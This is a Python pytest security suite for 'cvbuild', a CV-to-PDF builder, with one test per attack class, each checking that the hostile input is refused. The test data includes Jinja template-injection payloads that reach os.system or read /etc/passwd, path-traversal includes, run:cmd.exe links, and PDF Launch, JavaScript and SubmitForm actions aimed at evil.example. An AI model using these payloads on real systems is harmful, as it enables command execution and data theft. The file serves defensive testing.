"""The security suite (issue 14): each class of attack tried with inputs of its own,
through the `cvbuild` command as CI runs it. Each test asserts the outcome that
SECURITY.md promises: no command runs, nothing outside the build folder is read into
the PDF or written, no traceback, exit 1 with a clear line, the last good PDFs intact."""

from __future__ import annotations

import gc
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cvbuild.paths import builtin_templates
from cvbuild.source.reader import MAX_EXPANDED

MINI = """\
languages: [ru, en]
header:
  name:
    ru: Анна Смирнова
    en: Anna Smirnova
sections:
  - title:
      ru: О себе
      en: About
    entries:
      - text:
          ru: "{ru}"
          en: "{en}"
"""


def write_cv(folder: Path, ru: str = "Версия один", en: str = "Version one",
             text: str | None = None) -> Path:
    path = folder / "cv.yaml"
    path.write_text(text if text is not None else MINI.format(ru=ru, en=en), encoding="utf-8")
    return path


def run(*args: str, cwd: Path, env: dict[str, str] | None = None,
        timeout: float = 180) -> subprocess.CompletedProcess:
    """`cvbuild ARGS` in a fresh interpreter, as CI runs it."""
    full = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "cvbuild", *args], cwd=cwd, env=full,
                          capture_output=True, text=True, timeout=timeout)


def refused(result: subprocess.CompletedProcess, *words: str) -> str:
    """The run failed as a user error: exit 1, no traceback, the given words said."""
    err = result.stderr
    assert result.returncode == 1, (result.returncode, err)
    assert "Traceback" not in err and "Traceback" not in result.stdout, err
    for word in words:
        assert word in err, (word, err)
    return err


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# ------------------------------------------------------------------ themes


def local_theme(folder: Path, name: str = "classic", first_line: str = "") -> Path:
    """A copy of a built-in theme beside cv.yaml, with a line put at its top, and a copy
    of the base it extends (base.tex.j2: the document's preamble and body)."""
    target = folder / "themes" / name
    shutil.copytree(builtin_templates() / "classic", target)
    shutil.copy(builtin_templates() / "base" / "base.tex.j2", target)
    template = target / "cv.tex.j2"
    template.write_text(first_line + "\n" + template.read_text(encoding="utf-8"), encoding="utf-8")
    return target


# Each tries to reach Python from a template: run a command (touching MARK), read a
# file, or change the data the theme is given.
HOSTILE_TEMPLATES = [
    "<< cycler.__init__.__globals__.os.system('touch MARK') >>",
    "<< joiner.__init__.__globals__['os'].popen('touch MARK').read() >>",
    "<< lipsum.__globals__.os.system('touch MARK') >>",
    "<< namespace.__init__.__globals__.os.system('touch MARK') >>",
    "<< ''.__class__.__mro__[1].__subclasses__() >>",
    "<< (1).__class__.__base__.__subclasses__()[0] >>",
    "<< cv.__class__.__init__.__globals__ >>",
    "<< self._TemplateReference__context.cycler.__init__.__globals__.os.system('touch MARK') >>",
    "<< '{0.__class__.__mro__}'.format(cv) >>",
    "<< cv.update({'lang': 'xx'}) >>",
    "((* set _ = cv.header.links.append(1) *))",
    "<< range.__self__.open('/etc/passwd').read() >>",
    "<< theme.pop('accent') >>",
]


@pytest.mark.parametrize("line", HOSTILE_TEMPLATES)
def test_a_hostile_theme_runs_nothing_and_is_told(tmp_path, line):
    write_cv(tmp_path)
    mark = tmp_path / "MARK"
    local_theme(tmp_path, first_line=line.replace("MARK", str(mark)))
    out = tmp_path / "build"
    result = run("tex", "-o", str(out), cwd=tmp_path)
    err = refused(result, "themes/classic/cv.tex.j2:1:")
    assert "may not" in err or "theme template error" in err
    assert not mark.exists()
    assert not out.exists()  # nothing half-written
    assert "root:" not in err + result.stdout  # no /etc/passwd


@pytest.mark.parametrize("line", ['((* include "pw" *))', '((* include "/etc/passwd" *))',
                                  '((* include "../../../../../../etc/passwd" *))',
                                  '((* import "pw" as x *))'])
def test_a_theme_reads_no_file_outside_its_folder(tmp_path, line):
    write_cv(tmp_path)
    theme = local_theme(tmp_path, first_line=line)
    (theme / "pw").symlink_to("/etc/passwd")
    result = run("tex", cwd=tmp_path)
    refused(result, "themes/classic/cv.tex.j2:1:")
    assert not (tmp_path / "build").exists()
    assert "root:" not in result.stderr + result.stdout


def test_a_local_theme_is_announced_on_every_build(tex, tmp_path):
    write_cv(tmp_path)
    local_theme(tmp_path)
    for _ in range(2):  # the second build is served from the cache: still said
        result = run("tex", cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        said = [line for line in result.stderr.splitlines() if "themes/classic" in line]
        assert len(said) == 1, result.stderr
        assert "not the built-in one" in said[0]
    # said, not a warning: --strict (every warning an error) builds with one's own theme
    result = run("pdf", "--strict", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "note: theme:" in result.stderr


def test_no_local_themes_refuses_a_theme_beside_the_cv(tmp_path):
    write_cv(tmp_path)
    assert run("tex", cwd=tmp_path).returncode == 0  # built-in: fine, cached
    local_theme(tmp_path)
    for args, env in ((["--no-local-themes"], {}), ([], {"CVBUILD_NO_LOCAL_THEMES": "1"})):
        result = run("tex", *args, cwd=tmp_path, env=env)
        refused(result, "themes/classic", "local themes are refused")


def test_a_new_local_theme_is_refused_too(tmp_path):
    write_cv(tmp_path, text=MINI.format(ru="а", en="a") + "theme: {name: mine}\n")
    local_theme(tmp_path, "mine")
    result = run("tex", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "not a built-in theme" in result.stderr
    refused(run("tex", "--no-local-themes", cwd=tmp_path), "themes/mine")


# ------------------------------------------------------------------ bounded work


def cv_with(folder: Path, value: str) -> Path:
    """The mini CV with `value` (YAML, as typed) as the English text."""
    return write_cv(folder, text=MINI.format(ru="а", en="a").replace('en: "a"', f"en: {value}"))


@pytest.mark.parametrize("value, words", [
    ("x" * 1000, ["a word of 1,000 characters", "at most 300"]),
    ("Ё" * 400 + " ok", ["a word of 400 characters"]),
    ("https://example.org/" + "a" * 5000, ["a web address of 5,020 characters", "at most 600"]),
    ("see https://example.org/" + "a-" * 400, ["a web address of 820 characters"]),
    ("x-" + "ж" * 350, ["a word of 350 characters"]),
    ("1" * 4300, ["a number of 4,300 characters"]),
    ("-" + "9" * 10_000, ["a number of 10,001 characters"]),
    ("1." + "5" * 500, ["a number of 502 characters"]),
])
def test_overlong_words_and_numbers_are_refused_at_their_field(tmp_path, value, words):
    write_cv(tmp_path, text=MINI.format(ru="а", en="a").replace('"a"', value))
    result = run("tex", cwd=tmp_path)
    refused(result, "cv.yaml:13:", "sections[0].entries[0].text.en", *words)
    assert not (tmp_path / "build").exists()  # refused before any .tex was written


def test_aliases_are_bounded_in_bytes(tmp_path):
    text = ("x: &t \"" + "ab cd " * 10_000 + "\"\n" + "y: [" + ", ".join(["*t"] * 60) + "]\n"
            + MINI.format(ru="а", en="a"))
    assert len(text) < 70_000
    write_cv(tmp_path, text=text)
    result = run("validate", cwd=tmp_path, timeout=60)
    refused(result, "expands to more than 2,000,000 characters")


def test_aliases_of_long_keys_are_bounded_too(tmp_path):
    keys = "".join(f"  {'k' * 400}{i}: 1\n" for i in range(2000))
    write_cv(tmp_path, text="a: &m\n" + keys + "b: [" + ", ".join(["*m"] * 10) + "]\n")
    refused(run("validate", cwd=tmp_path, timeout=60), "expands to more than 2,000,000")


def test_too_many_languages_are_refused(tmp_path):
    codes = [a + b for a in "abcdefgh" for b in "xyz"][:20]
    body = "\n".join(f"    {c}: N" for c in codes)
    write_cv(tmp_path, text=f"languages: [{', '.join(codes)}]\nheader:\n  name:\n{body}\n")
    refused(run("pdf", cwd=tmp_path), "languages", "at most 8")
    assert not (tmp_path / "build").exists()


@pytest.mark.parametrize("target", ["/dev/zero", "fifo", "/dev/urandom", "folder"])
def test_the_cv_is_read_only_from_a_regular_file(tmp_path, target):
    if target == "fifo":
        os.mkfifo(tmp_path / "fifo")  # no writer: opening it waits forever, reading too
    if target == "folder":
        (tmp_path / "folder").mkdir()
    (tmp_path / "cv.yaml").symlink_to(target if target.startswith("/") else tmp_path / target)
    for command in ("pdf", "validate"):
        result = run(command, cwd=tmp_path, timeout=60)
        refused(result, "cv.yaml:")
        assert "MemoryError" not in result.stderr


def test_check_reads_only_regular_files(tmp_path):
    write_cv(tmp_path)
    os.mkfifo(tmp_path / "Anna_Smirnova_CV_en.pdf")  # a pipe with no writer: would hang
    (tmp_path / "Anna_Smirnova_CV_ru.pdf").symlink_to("/dev/zero")
    result = run("check", "Anna_Smirnova_CV_en.pdf", "Anna_Smirnova_CV_ru.pdf", cwd=tmp_path,
                 timeout=60)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stdout.count("not a regular file") == 2, result.stdout


def tiny_png(path: Path) -> bytes:
    from PIL import Image

    Image.new("RGB", (40, 40), "teal").save(path)
    return path.read_bytes()


@pytest.mark.parametrize("damage", ["garbage", "cut", "chunk"])
def test_a_damaged_photo_is_refused_in_words(tex, tmp_path, damage):
    good = tiny_png(tmp_path / "good.png")
    bad = {
        "garbage": good[:8] + os.urandom(4000),
        "cut": good[: len(good) // 2],
        "chunk": good[:16] + b"\xff\xff\xff\x7f" + good[20:],  # IHDR says 2^31 pixels wide
    }[damage]
    (tmp_path / "me.png").write_bytes(bad)
    write_cv(tmp_path, text=MINI.format(ru="а", en="a").replace(
        "    en: Anna Smirnova\n", "    en: Anna Smirnova\n  photo: me.png\n"))
    result = run("pdf", cwd=tmp_path)
    refused(result, "header.photo", "me.png", "damaged image")


def test_never_more_engines_than_cores(tex, tmp_path):
    """Four languages on one core: one engine at a time (sampled from /proc), in a
    first build and in a second one that starts engines from the first one's preambles."""
    codes = ["ru", "en", "de", "fr"]
    env = {**os.environ, "CVBUILD_CACHE_DIR": str(tmp_path / "c")}
    for name in ("Anna", "Anya"):
        names = "\n".join(f"    {c}: {name}" for c in codes)
        write_cv(tmp_path, text=f"languages: [{', '.join(codes)}]\nheader:\n  name:\n{names}\n")
        proc = subprocess.Popen(["taskset", "-c", "0", sys.executable, "-m", "cvbuild", "pdf"],
                                cwd=tmp_path, env=env, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        most = 0
        while proc.poll() is None:
            most = max(most, len(engines_below(proc.pid)))
            time.sleep(0.01)
        assert proc.returncode == 0, proc.stderr.read()
        assert len(list((tmp_path / "build").glob(f"{name}_CV_*.pdf"))) == 4
        assert most == 1, name


def engines_below(pid: int) -> list[int]:
    """The engines descending from pid (each pipes into its own driver, not counted)."""
    parents: dict[int, int] = {}
    names: dict[int, str] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)
            if fields[1].split()[0] in ("Z", "X"):  # ended, not yet reaped: no engine
                continue
            names[int(entry.name)] = fields[0].split("(", 1)[1]
            parents[int(entry.name)] = int(fields[1].split()[1])
        except (OSError, IndexError, ValueError):
            continue

    def below(p: int) -> bool:
        for _ in range(50):
            p = parents.get(p, 0)
            if p == pid:
                return True
            if p <= 1:
                return False
        return False

    # (an engine's own child is named after it until it runs its driver: not counted)
    return [p for p, name in names.items()
            if name == "xelatex" and names.get(parents[p]) != "xelatex" and below(p)]


# Each step that text passes through on its way to TeX, fed a long text made of one
# repeated unit: doubling the text must at most about double the time.
def _steps():
    from cvbuild.render.latex import escape, markup
    from cvbuild.render.template import _unmark
    from cvbuild.source.reader import compose
    from cvbuild.text.typography import typeset

    def marked(text: str) -> str:  # every unit a field of its own, as render marks them
        return "".join(f"\x01f[{i}]\x02{ch}\x03" for i, ch in enumerate(text))

    return {
        "typeset": lambda t: typeset(t, "ru"),
        "typeset_en": lambda t: typeset(t, "en"),
        "markup": lambda t: markup(t, "en"),
        "escape": escape,
        "unmark": lambda t: _unmark(marked(t)),
        "yaml": lambda t: compose("a: " + json.dumps(t)),
    }


UNITS = ["a", "я", "a@", "a.", "1-", "в ", "\"", "'", "[", "[a](", "**a", "_a", "`", "\\",
         "x.y@", "www.", "1 ", "А. ", "т. ", " - ", "😀", "6\ufe0f\u20e3", "&#", "\u0301"]


# 4n units of at most four characters stay within the text a YAML document may expand
# to (reader.MAX_EXPANDED): the YAML step refuses more, however fast it reads
MAX_N = MAX_EXPANDED // 16


def _best(step, text: str, reps: int = 2) -> float:
    """The least CPU time of this thread for `step(text)` over `reps` runs: CPU time,
    not wall time, so that other processes on the machine (a test suite, engines) do
    not count (wall time failed the linear steps at a load of 5)."""
    times = []
    gc.disable()  # a collection in one run and not in the other is noise
    try:
        for _ in range(reps):
            started = time.thread_time()
            step(text)
            times.append(time.thread_time() - started)
    finally:
        gc.enable()
    return min(times)


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(_steps()))
def test_every_text_step_is_linear(name):
    """The ratio of times for 4n and n units, n grown until one run takes 20 ms: a
    linear step gives about 4 (two doublings, each at most about doubling the time),
    a quadratic one 16. A shared machine is noisy: a ratio above 6 is measured again,
    and the best of three tries counts."""
    step = _steps()[name]
    slow = []
    for unit in UNITS:
        step(unit * 10)  # caches filled (emoji data, compiled patterns) before timing
        n = 1000
        while _best(step, unit * n, 1) < 0.02 and n * 2 <= MAX_N:
            n *= 2
        ratio = 99.0
        for _ in range(3):
            ratio = min(ratio, _best(step, unit * 4 * n) / _best(step, unit * n))
            if ratio <= 6:
                break
        else:
            slow.append(f"{unit!r} × {n}: {ratio:.1f}")
    assert not slow, slow


# ------------------------------------------------------------------ links and actions


@pytest.mark.parametrize("target", [
    "run:cmd.exe", "/etc/passwd", "../secret.pdf", "C:/Windows/system32/calc.exe",
    "ftp://example.org/x", "launch:x", "#section", "smb://host/share",
    "Run:CMD.EXE", "example.org", "x.png",
])
def test_a_link_that_is_not_web_mail_or_phone_is_refused_at_its_field(tmp_path, target):
    write_cv(tmp_path, ru="текст", en=f"see [this]({target}) now")
    result = run("tex", cwd=tmp_path)
    refused(result, "cv.yaml:13:15:", "sections[0].entries[0].text.en",
            "is not a web, e-mail or phone address")
    assert not (tmp_path / "build").exists()


def test_targets_markdown_never_links_print_as_text(tmp_path):
    """markdown-it makes no link of javascript:, vbscript:, file: or data: targets:
    the text is printed as typed, and there is no \\href in the .tex."""
    targets = ["javascript:alert(1)", "vbscript:x", "file:///etc/passwd", "data:text/html,x"]
    write_cv(tmp_path, ru="а", en=" ".join(f"[t]({t})" for t in targets))
    result = run("tex", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    tex = (tmp_path / "build" / "Anna_Smirnova_CV_en.tex").read_text(encoding="utf-8")
    assert "\\href" not in tex.split("\\begin{document}")[1]


def test_web_mail_and_phone_links_stay_links(tmp_path):
    write_cv(tmp_path, ru="[сайт](HTTPS://example.org)",
             en="[a](https://example.org) [b](mailto:a@example.org) [c](tel:+79001234567) "
                "[d](http://example.org)")
    result = run("tex", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    tex = (tmp_path / "build" / "Anna_Smirnova_CV_en.tex").read_text(encoding="utf-8")
    for href in ("https://example.org", "mailto:a@example.org", "tel:+79001234567"):
        assert "\\href{" + href + "}" in tex


def test_markup_never_links_a_refused_target():
    """A theme may run `md` on text validation never saw: the words, no link."""
    from cvbuild.render.latex import markup

    out = markup("[open](run:cmd.exe) and [read](/etc/passwd) [ok](https://e.org)", "en")
    assert out.count("\\href") == 1 and "run:" not in out and "/etc/passwd" not in out
    assert "open" in out and "read" in out


def _with_actions(source: Path, target: Path, kind: str) -> None:
    """A copy of a good PDF with one hostile action of `kind` added."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def action(s: str, **entries) -> DictionaryObject:
        d = DictionaryObject({NameObject("/Type"): NameObject("/Action"),
                              NameObject("/S"): NameObject(s)})
        for k, v in entries.items():
            d[NameObject("/" + k)] = TextStringObject(v)
        return d

    writer = PdfWriter(clone_from=PdfReader(source))
    page = writer.pages[0]
    made = {
        "Launch": action("/Launch", F="cmd.exe"),
        "GoToR": action("/GoToR", F="/etc/passwd"),
        "JavaScript": action("/JavaScript", JS="app.alert(1)"),
        "SubmitForm": action("/SubmitForm", F="https://evil.example/collect"),
        "ImportData": action("/ImportData", F="data.fdf"),
        "GoToE": action("/GoToE", F="x.pdf"),
    }
    if kind == "OpenAction":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(made["JavaScript"])
    elif kind == "AA":
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): made["Launch"]})
    else:
        link = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(9), FloatObject(9)]),
            NameObject("/A"): made[kind],
        })
        annots = page.get("/Annots")
        annots = annots.get_object() if annots is not None else ArrayObject()
        annots.append(writer._add_object(link))
        page[NameObject("/Annots")] = annots
    with target.open("wb") as f:
        writer.write(f)


@pytest.fixture(scope="module")
def good_build(tex, tmp_path_factory) -> tuple[Path, Path]:
    folder = tmp_path_factory.mktemp("good")
    write_cv(folder, ru="Сайт: [пример](https://example.org)", en="Site: [example](https://example.org)")
    result = run("pdf", cwd=folder)
    assert result.returncode == 0, result.stderr
    return folder, folder / "build" / "Anna_Smirnova_CV_en.pdf"


@pytest.mark.parametrize("kind", ["Launch", "GoToR", "JavaScript", "SubmitForm",
                                  "ImportData", "GoToE", "OpenAction", "AA"])
def test_check_reports_every_action_but_a_web_link(good_build, tmp_path, kind):
    folder, good = good_build
    before = run("check", str(good), "--cv", str(folder / "cv.yaml"), cwd=folder)
    assert "actions:" not in before.stdout and "(en)" in before.stdout, before.stdout
    bad = tmp_path / good.name
    _with_actions(good, bad, kind)
    result = run("check", str(bad), "--cv", str(folder / "cv.yaml"), cwd=folder)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    said = [line for line in result.stdout.splitlines() if "actions:" in line]
    assert said, result.stdout
    want = {"OpenAction": "/JavaScript", "AA": "/Launch"}.get(kind, "/" + kind)
    assert any(want in line for line in said), said


def test_a_theme_that_writes_a_launch_link_is_caught_by_check(good_build, tmp_path):
    """A local theme can write \\href{run:…} itself, past any validation of cv.yaml:
    `cvbuild check` (CI's step after the build) is what says so."""
    folder, _ = good_build
    shutil.copy(folder / "cv.yaml", tmp_path / "cv.yaml")
    theme = local_theme(tmp_path)
    template = theme / "base.tex.j2"
    text = template.read_text(encoding="utf-8")
    template.write_text(text.replace("\\end{document}", "\\href{run:calc.exe}{x}\\end{document}"),
                        encoding="utf-8")
    assert run("pdf", cwd=tmp_path).returncode == 0
    result = run("check", "--cv", "cv.yaml", cwd=tmp_path)
    assert result.returncode == 1
    assert "a /Launch action" in result.stdout, result.stdout


# ------------------------------------------------------------------ environments


def in_mounts(script: str, timeout: float = 300) -> subprocess.CompletedProcess:
    """`script` (bash) in a mount namespace of its own, where it may mount a small
    tmpfs (a full disk, a read-only folder) that vanishes with it."""
    unshare = ["unshare", "-m"] if os.geteuid() == 0 else ["unshare", "-rm"]
    env = {**os.environ, "PY": sys.executable}
    return subprocess.run([*unshare, "bash", "-euc", script], env=env, capture_output=True,
                          text=True, timeout=timeout)


def leftover_processes(marker: str) -> list[int]:
    """Processes whose command line names `marker` (a test's own folder): engines a
    build would have left behind. Ended here, then reported."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    for pid in found:
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    return found


NO_PASSWD = ("import pwd, sys, runpy\n"
             "def nobody(uid): raise KeyError(uid)\n"
             "pwd.getpwuid = nobody\n"  # a user id with no passwd entry: ~ stays ~
             "sys.argv = ['cvbuild'] + sys.argv[1:]\n"
             "runpy.run_module('cvbuild', run_name='__main__')\n")


@pytest.mark.parametrize("case", ["file", "no-home", "home-is-proc", "no-passwd",
                                  "other-owner", "open-to-all"])
def test_an_unusable_cache_is_one_warning_and_the_build_goes_on(tex, tmp_path, case):
    write_cv(tmp_path)
    (tmp_path / "a-file").write_text("x")
    env = {k: v for k, v in os.environ.items()
           if k not in ("CVBUILD_CACHE_DIR", "XDG_CACHE_HOME", "HOME")}
    command = [sys.executable, "-m", "cvbuild", "pdf"]
    if case == "file":
        env["CVBUILD_CACHE_DIR"] = str(tmp_path / "a-file" / "cache")
    elif case == "home-is-proc":
        env["HOME"] = "/proc/no-such-home"
    elif case == "no-passwd":
        command = [sys.executable, "-c", NO_PASSWD, "pdf"]
    elif case == "no-home":
        env["HOME"] = "/"  # Docker's --user: writable for root only
        if os.geteuid() == 0:  # root may write /: its cache is /.cache, which is fine
            env["HOME"] = "/proc/self"
    elif case in ("other-owner", "open-to-all"):
        cache = tmp_path / "cache"
        cache.mkdir(mode=0o700)
        if case == "other-owner":
            os.chown(cache, 4242, 4242)
        else:
            cache.chmod(0o777)
        env["CVBUILD_CACHE_DIR"] = str(cache)
    result = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True,
                            timeout=300)
    left = leftover_processes(str(tmp_path))
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    warned = [line for line in result.stderr.splitlines() if "cache folder" in line]
    assert len(warned) == 1 and warned[0].startswith("warning:"), result.stderr
    assert len(list((tmp_path / "build").glob("*.pdf"))) == 2
    assert not (tmp_path / "~").exists()  # no folder named ~ in the CV's folder
    assert not Path("/nonexistent").exists()  # nor a stand-in for the home folder
    assert not left
    # a command that builds nothing says nothing of the cache
    quiet = subprocess.run([*command[:-1], "schema"], cwd=tmp_path, env=env,
                           capture_output=True, text=True, timeout=60)
    assert quiet.returncode == 0 and quiet.stderr == "", quiet.stderr


def test_relative_cache_settings_become_absolute(tmp_path):
    write_cv(tmp_path)
    home = tmp_path / "home"
    home.mkdir()
    env = {"CVBUILD_CACHE_DIR": "", "XDG_CACHE_HOME": "relative/xdg", "HOME": str(home)}
    result = run("tex", cwd=tmp_path, env=env)
    assert result.returncode == 0 and "cache folder" not in result.stderr, result.stderr
    assert not (tmp_path / "relative").exists()  # a relative XDG_CACHE_HOME is ignored
    assert (home / ".cache" / "cvbuild").is_dir()
    sub = tmp_path / "sub"
    sub.mkdir()
    result = run("tex", str(tmp_path / "cv.yaml"), "-o", str(tmp_path / "b2"), cwd=sub,
                 env={"CVBUILD_CACHE_DIR": "rel-cache"})
    assert result.returncode == 0, result.stderr
    assert (sub / "rel-cache").is_dir()  # taken from where cvbuild was started


def test_a_cache_writable_by_ones_own_group_is_fine(tmp_path):
    """umask 002 (Debian's user private groups) makes folders group-writable: the
    group is one's own, so the cache is used, without a warning."""
    write_cv(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    cache.chmod(0o775)
    os.chown(cache, os.geteuid(), os.getegid())
    result = run("tex", cwd=tmp_path, env={"CVBUILD_CACHE_DIR": str(cache)})
    assert result.returncode == 0 and "cache folder" not in result.stderr, result.stderr
    assert any(cache.iterdir())


@pytest.mark.parametrize("kind", ["full", "read-only"])
def test_a_full_or_read_only_cache_never_stops_a_build(tex, tmp_path, kind):
    write_cv(tmp_path)
    cache = tmp_path / "cache"
    cache.mkdir()
    options = "size=24k" if kind == "full" else "ro"
    result = in_mounts(
        f"mount -t tmpfs -o {options},mode=700 tmpfs {cache}\n"
        f"cd {tmp_path}\n"
        f"CVBUILD_CACHE_DIR={cache} \"$PY\" -m cvbuild pdf\n")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    warned = [line for line in result.stderr.splitlines() if "cache folder" in line]
    assert len(warned) == 1, result.stderr
    assert len(list((tmp_path / "build").glob("*.pdf"))) == 2


# ------------------------------------------------------------------ the output side


def first_build(tmp_path: Path) -> tuple[Path, dict[str, bytes]]:
    write_cv(tmp_path, ru="Версия один", en="Version one")
    result = run("pdf", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    out = tmp_path / "build"
    return out, snapshot(out)


def one_line_error(result: subprocess.CompletedProcess, *words: str) -> str:
    err = refused(result, "cannot write", *words)
    assert len(err.strip().splitlines()) == 1, err
    return err


def test_an_output_path_that_is_a_file_is_one_line(tmp_path):
    write_cv(tmp_path)
    (tmp_path / "taken").write_text("mine")
    for out in ("taken", "taken/sub"):
        err = one_line_error(run("tex", "-o", out, cwd=tmp_path), out, "a file stands where a folder")
        assert "-o DIR" in err
    # the commands that write one file say the same
    for args in (["export", "-f", "text", "-l", "en", "-o", "taken/cv.txt"],
                 ["init", "taken/cv.yaml"]):
        one_line_error(run(*args, cwd=tmp_path), "taken/", "a file stands where a folder")
    assert (tmp_path / "taken").read_text() == "mine"


@pytest.mark.parametrize("kind", ["full", "read-only"])
def test_a_full_or_read_only_output_folder_keeps_the_last_good_pdfs(tex, tmp_path, kind):
    out, before = first_build(tmp_path)
    write_cv(tmp_path, ru="Версия два " * 30, en="Version two " * 30)
    # the folder's own files are copied into a small tmpfs mounted over it
    fill = ("head -c $(( $(df --output=avail -B1 build | tail -1) - 20000 )) /dev/zero "
            "> build/filler || true\n") if kind == "full" else "mount -o remount,ro build\n"
    result = in_mounts(
        f"cd {tmp_path}\ncp -a build saved\n"
        "mount -t tmpfs -o size=1m tmpfs build\ncp -a saved/. build/\n" + fill +
        "set +e\n\"$PY\" -m cvbuild pdf; code=$?\nset -e\n"
        "rm -f build/filler\ncp -a build/. after/ 2>/dev/null || { mkdir after; cp -a build/. after/; }\n"
        "exit $code\n")
    one_line_error(result, "build", "full" if kind == "full" else "read-only")
    after = tmp_path / "after"
    assert snapshot(after) == before  # every old file as it was, nothing new beside them
    assert not [p for p in after.iterdir() if p.name.endswith(".part")]


# ------------------------------------------------------------------ publishing


def interrupted(tmp_path: Path, when: str) -> subprocess.CompletedProcess:
    """`cvbuild pdf` killed (os._exit) while publishing: `when` is "writing" (the second
    temporary file) or "renaming" (after the first rename the journal allows)."""
    hook = {
        "writing": ("real = p._write_new\ncalls = []\n"
                    "def hooked(path, data, mode):\n"
                    "    calls.append(path)\n"
                    "    if len(calls) == 2: os._exit(9)\n"
                    "    return real(path, data, mode)\n"
                    "p._write_new = hooked\n"),
        "renaming": ("real = os.replace\ndone = []\n"
                     "def hooked(a, b):\n"
                     "    if (p.Path(b).parent / p.JOURNAL).exists() and b != p.Path(b).parent / p.JOURNAL:\n"
                     "        if done: os._exit(9)\n"
                     "        done.append(b)\n"
                     "    return real(a, b)\n"
                     "p.os.replace = hooked\n"),
    }[when]
    code = ("import os, sys, runpy\nimport cvbuild.pipeline.publish as p\n" + hook +
            "sys.argv = ['cvbuild', 'pdf']\nrunpy.run_module('cvbuild', run_name='__main__')\n")
    return subprocess.run([sys.executable, "-c", code], cwd=tmp_path, capture_output=True,
                          text=True, timeout=300,
                          env=dict(os.environ))


def texts(out: Path) -> dict[str, str]:
    from cvbuild.verify.readback import pdf_text

    return {p.name: " ".join(pdf_text(p).split()) for p in sorted(out.glob("*.pdf"))}


def test_a_kill_while_writing_leaves_all_old_and_the_next_build_cleans_up(tex, tmp_path):
    out, before = first_build(tmp_path)
    write_cv(tmp_path, ru="Версия два", en="Version two")
    assert interrupted(tmp_path, "writing").returncode == 9
    parts = [p for p in out.iterdir() if p.name.endswith(".part")]
    assert parts  # the kill left a temporary file...
    assert {k: v for k, v in snapshot(out).items() if not k.endswith(".part")} == before
    result = run("pdf", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert not [p for p in out.iterdir() if p.name.endswith(".part")]  # ...the next removes it
    assert all("два" in t or "two" in t for t in texts(out).values())


def test_a_kill_between_renames_is_finished_by_the_next_build(tex, tmp_path):
    from cvbuild.pipeline.publish import JOURNAL, recover

    out, _ = first_build(tmp_path)
    write_cv(tmp_path, ru="Версия два", en="Version two")
    assert interrupted(tmp_path, "renaming").returncode == 9
    assert (out / JOURNAL).exists()
    mixed = texts(out)
    assert sum("два" in t or "two" in t for t in mixed.values()) == 1  # one new, one old
    recover(out)  # what the next build does first, before it writes anything
    assert not (out / JOURNAL).exists()
    assert not [p for p in out.iterdir() if p.name.startswith(".")]
    done = texts(out)
    assert all("два" in t or "two" in t for t in done.values()), done
    assert all(path.name + ".tex" for path in out.glob("*.pdf"))
    tex_ru = (out / "Anna_Smirnova_CV_ru.tex").read_text(encoding="utf-8")
    assert "два" in tex_ru  # the .tex files came with their PDFs


def test_no_write_follows_a_symlink_out_of_the_output_folder(tex, tmp_path):
    out, _ = first_build(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    for name in ("Anna_Smirnova_CV_en.pdf", "Anna_Smirnova_CV_ru.tex", "Anna_Smirnova_CV_en.log"):
        (outside / name).write_text("precious")
        (out / name).unlink()
        (out / name).symlink_to(outside / name)
    write_cv(tmp_path, ru="Версия два", en="Version two")
    assert run("pdf", cwd=tmp_path).returncode == 0
    for name in ("Anna_Smirnova_CV_en.pdf", "Anna_Smirnova_CV_ru.tex", "Anna_Smirnova_CV_en.log"):
        assert (outside / name).read_text() == "precious"
        assert not (out / name).is_symlink()
    # a failed build keeps its log: written beside the PDFs, not through a link there
    (out / "Anna_Smirnova_CV_en.log").unlink()
    (out / "Anna_Smirnova_CV_en.log").symlink_to(outside / "Anna_Smirnova_CV_en.log")
    (out / "Anna_Smirnova_CV_ru.log").unlink()
    (out / "Anna_Smirnova_CV_ru.log").symlink_to(outside / "Anna_Smirnova_CV_en.log")
    theme = local_theme(tmp_path)
    template = theme / "base.tex.j2"
    template.write_text(template.read_text(encoding="utf-8").replace(
        "\\end{document}", "\\undefinedcommandhere\\end{document}"), encoding="utf-8")
    before = snapshot(out)
    result = run("pdf", cwd=tmp_path)
    refused(result, "failed")
    assert (outside / "Anna_Smirnova_CV_en.log").read_text() == "precious"
    assert {k: v for k, v in snapshot(out).items() if k.endswith(".pdf")} == \
        {k: v for k, v in before.items() if k.endswith(".pdf")}


# ------------------------------------------------------------------ SECURITY.md


def test_every_test_security_md_names_exists():
    """Each promise in SECURITY.md names the tests that hold it: they must exist."""
    import re

